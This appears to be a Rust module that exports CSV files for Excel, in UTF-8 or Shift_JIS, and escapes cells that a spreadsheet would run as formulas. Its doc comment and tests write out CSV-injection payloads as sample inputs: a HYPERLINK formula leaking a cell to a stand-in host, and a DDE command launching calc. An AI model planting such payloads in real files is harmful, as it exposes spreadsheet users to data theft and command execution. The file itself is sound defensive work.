//! CSV files as people open them in a spreadsheet program (Excel): UTF-8 with a byte order mark
//! (which Excel needs to read Japanese) or Shift_JIS (Windows' CP932), and no cell that a
//! spreadsheet would run. Every CSV Renkei writes goes through [`file`]: the survey, the audit
//! log, an import's rejected rows.
//!
//! A cell beginning with `=`, `+`, `-` or `@`, or with a tab, carriage return or line feed, is a
//! formula (or the start of one) to Excel, LibreOffice and Google Sheets: a facility named
//! `=HYPERLINK("http://evil.example/?"&A1,"…")` would become a live link that sends the
//! neighbouring cells away. Such a cell is written with a leading apostrophe, which the
//! spreadsheet shows as text (OWASP, "CSV Injection"). Numbers stay numbers: `-1` and `74.5` are
//! left as they are.

use serde::Deserialize;

/// The encoding of a CSV file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, utoipa::ToSchema, clap::ValueEnum)]
pub enum Encoding {
    /// UTF-8 with a byte order mark, which Excel needs to read Japanese correctly.
    #[serde(rename = "utf-8")]
    #[value(name = "utf-8")]
    Utf8,
    /// Shift_JIS, for older Excel and the prefecture's forms.
    #[serde(rename = "shift_jis")]
    #[value(name = "shift_jis")]
    ShiftJis,
}

impl Encoding {
    /// The Content-Type of a CSV file in this encoding.
    pub fn content_type(self) -> &'static str {
        match self {
            Self::Utf8 => "text/csv; charset=utf-8",
            Self::ShiftJis => "text/csv; charset=Shift_JIS",
        }
    }
}

/// The CSV file of `rows` (the first is the header), every cell made safe to open.
pub fn file<R, C>(rows: impl IntoIterator<Item = R>, encoding: Encoding) -> anyhow::Result<Vec<u8>>
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    // Flexible: a report may hold several tables, each with its own columns.
    let mut writer = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
    for row in rows {
        let cells: Vec<String> = row.into_iter().map(|cell| safe(cell.as_ref())).collect();
        writer.write_record(&cells)?;
    }
    let text = String::from_utf8(writer.into_inner()?)?;
    Ok(match encoding {
        Encoding::Utf8 => [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat(),
        Encoding::ShiftJis => encoding_rs::SHIFT_JIS.encode(&to_windows_glyphs(&text)).0.into_owned(),
    })
}

/// A cell as a spreadsheet may open it: a would-be formula gets a leading apostrophe.
pub fn safe(cell: &str) -> String {
    if runs(cell) { format!("'{cell}") } else { cell.to_owned() }
}

/// Whether a spreadsheet would take the cell for a formula (or a command) rather than text or a
/// number. Leading spaces, full-width ones too, do not hide the first character.
fn runs(cell: &str) -> bool {
    let trimmed = cell.trim_start_matches([' ', '\u{3000}']);
    let Some(first) = trimmed.chars().next() else { return false };
    let starts_a_formula = matches!(first, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠') || first.is_control();
    starts_a_formula && trimmed.parse::<f64>().is_err()
}

/// Characters that Unicode and Windows' Shift_JIS (CP932, what Excel reads) map differently:
/// 〜 is U+301C in Unicode text but only ～ U+FF5E has a Shift_JIS code, and so on. Anything else
/// without a Shift_JIS code is written as a numeric reference (&#NNNN;).
fn to_windows_glyphs(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\u{301C}' => '\u{FF5E}',
            '\u{2212}' => '\u{FF0D}',
            '\u{2016}' => '\u{2225}',
            '\u{2014}' => '\u{2015}',
            '\u{00A2}' => '\u{FFE0}',
            '\u{00A3}' => '\u{FFE1}',
            '\u{00AC}' => '\u{FFE2}',
            other => other,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_become_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"クリック\")",
            "+AREA",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+2",
            "\r=1+2",
            "  =1+2",
            "\u{3000}=1+2",
            "＝1+2",
        ] {
            assert_eq!(safe(formula), format!("'{formula}"), "{formula:?}");
        }
    }

    #[test]
    fn names_and_numbers_stay_as_they_are() {
        for cell in ["連携病院", "中央圏域", "74.5", "-1", "+3", "0", "", "2025-04-01", "a=b", "H1"] {
            assert_eq!(safe(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn both_encodings_carry_the_neutralised_cell() {
        let rows = [["区分", "名称"], ["=1+2", "〜市"]];
        let utf8 = file(rows, Encoding::Utf8).unwrap_or_default();
        assert!(utf8.starts_with(b"\xEF\xBB\xBF"));
        assert!(String::from_utf8_lossy(&utf8).contains("'=1+2"));
        let sjis = file(rows, Encoding::ShiftJis).unwrap_or_default();
        let (text, _, had_errors) = encoding_rs::SHIFT_JIS.decode(&sjis);
        assert!(!had_errors && text.contains("'=1+2") && text.contains("～市"), "{text}");
    }
}
